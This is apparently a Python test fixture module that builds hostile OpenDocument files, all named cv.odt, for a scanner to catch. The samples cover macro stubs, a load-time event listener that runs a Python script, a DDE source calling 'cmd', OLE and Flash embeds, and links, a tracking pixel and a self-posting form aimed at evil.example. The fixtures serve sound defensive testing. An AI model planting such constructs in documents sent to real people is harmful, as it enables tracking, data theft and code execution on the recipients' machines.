"""What a document of LibreOffice's kind may carry, fetch and start."""

from tests import papers
from tests.files.hostile import hostile


@hostile("macros", "cv.odt")
def opendocument_with_basic() -> bytes:
    return papers.odt(Basic__Standard__Module1_xml="<x/>")


@hostile("macros", "cv.odt")
def opendocument_with_python() -> bytes:
    return papers.odt(Scripts__python__a_py="import os")


@hostile("macros", "cv.odt")
def opendocument_with_script_in_the_text() -> bytes:
    return papers.odt(scripts='<office:script script:language="ooo:Basic"/>')


@hostile("macros", "cv.odt")
def opendocument_that_listens() -> bytes:
    listener = (
        '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.py$x?language=Python&amp;location=share"/>'
    )
    return papers.odt(scripts=f"<office:event-listeners>{listener}</office:event-listeners>")


@hostile("macros", "cv.odt")
def opendocument_link_to_a_macro() -> bytes:
    return papers.odt(
        '<text:p><text:a xlink:href="vnd.sun.star.script:Standard.A?language=Basic&amp;location=application">x</text:a></text:p>'
    )


@hostile("encrypted", "cv.odt")
def opendocument_with_a_password() -> bytes:
    return papers.odt(manifest='<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>')


@hostile("embedded", "cv.odt")
def opendocument_with_an_object() -> bytes:
    return papers.odt(
        '<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>', **{"Object 1": b"\xd0\xcf\x11\xe0"}
    )


@hostile("embedded", "cv.odt")
def opendocument_with_a_plugin() -> bytes:
    return papers.odt('<text:p><draw:frame><draw:plugin xlink:href="Media/a.swf"/></draw:frame></text:p>')


@hostile("embedded", "cv.odt")
def opendocument_with_a_frame() -> bytes:
    return papers.odt('<text:p><draw:frame><draw:floating-frame xlink:href="https://evil.example/"/></draw:frame></text:p>')


@hostile("remote", "cv.odt")
def opendocument_with_a_picture_from_an_address() -> bytes:
    return papers.odt('<text:p><draw:frame><draw:image xlink:href="https://evil.example/pixel.png"/></draw:frame></text:p>')


@hostile("remote", "cv.odt")
def opendocument_with_a_template_from_a_share() -> bytes:
    return papers.odt(meta=r'<meta:template xlink:href="\\evil.example\t.ott"/>')


@hostile("remote", "cv.odt")
def opendocument_with_a_section_from_an_address() -> bytes:
    return papers.odt('<text:section text:name="a"><text:section-source xlink:href="https://evil.example/a.odt"/></text:section>')


@hostile("active", "cv.odt")
def opendocument_with_a_command() -> bytes:
    return papers.odt('<text:p><office:dde-source office:dde-application="cmd" office:dde-topic="x" office:dde-item="y"/></text:p>')


@hostile("active", "cv.odt")
def opendocument_with_a_form_that_sends_itself() -> bytes:
    return papers.odt('<office:forms><form:form xlink:href="https://evil.example/" form:method="post"/></office:forms>')
